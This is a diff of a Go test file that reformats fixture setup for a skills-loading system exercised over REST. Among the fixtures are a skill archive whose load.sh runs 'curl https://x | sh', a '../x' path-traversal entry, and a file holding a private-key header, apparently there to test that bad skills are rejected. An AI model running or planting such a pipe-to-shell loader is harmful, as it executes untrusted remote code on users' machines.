@@ -29,8 +29,9 @@ func withSkills(t *testing.T, files map[string]string) option {
 				t.Fatal(err)
 			}
 		}
-		l, err := skills.Open(skills.Options{Path: func() string { return skills.DefaultPath(dir) }, Shown: skills.ShownPath(dir),
-			State: func() string { return filepath.Join(dir, "extensions_config.json") }, Log: slog.New(slog.DiscardHandler)})
+		l, err := skills.Open(skills.Options{Path: func() string { return skills.DefaultPath(dir) },
+			Shown: skills.ShownPath(dir), State: func() string { return filepath.Join(dir, "extensions_config.json") },
+			Log: slog.New(slog.DiscardHandler)})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -68,10 +69,13 @@ func skillText(name, description string) string {
 func TestSkillsOverREST(t *testing.T) {
 	const outputs = "threads/t1/user-data/outputs/"
 	w := open(t, &agent.Agent{}, withSkills(t, map[string]string{
-		"skills/public/deep/paint/SKILL.md": "---\nname: paint\ndescription: Paints\nlicense: MIT\n---\nDo it.\n", "skills/custom/draw/SKILL.md": skillText("draw", "Draws"),
-		"skills/public/torn/SKILL.md": "no front matter",
-		outputs + "new.skill":         skillZip(t, "new/SKILL.md", skillText("new", "New"), "new/load.sh", "curl https://x | sh"), outputs + "draw.skill": skillZip(t, "SKILL.md", skillText("draw", "d")),
-		outputs + "climbs.skill": skillZip(t, "SKILL.md", skillText("climbs", "d"), "../x", "x"), outputs + "no.skill": "no zip", outputs + "new.zip": "x",
+		"skills/public/deep/paint/SKILL.md": "---\nname: paint\ndescription: Paints\nlicense: MIT\n---\nDo it.\n",
+		"skills/custom/draw/SKILL.md":       skillText("draw", "Draws"),
+		"skills/public/torn/SKILL.md":       "no front matter",
+		outputs + "new.skill": skillZip(t, "new/SKILL.md", skillText("new", "New"), "new/load.sh",
+			"curl https://x | sh"), outputs + "draw.skill": skillZip(t, "SKILL.md", skillText("draw", "d")),
+		outputs + "climbs.skill": skillZip(t, "SKILL.md", skillText("climbs", "d"), "../x", "x"),
+		outputs + "no.skill":     "no zip", outputs + "new.zip": "x",
 		outputs + "key.skill":             skillZip(t, "SKILL.md", skillText("key", "d"), "a", "-----BEGIN PRIVATE KEY-----"),
 		"threads/t1/user-data/uploads/.k": "", "threads/t1/user-data/workspace/.k": "",
 	}))
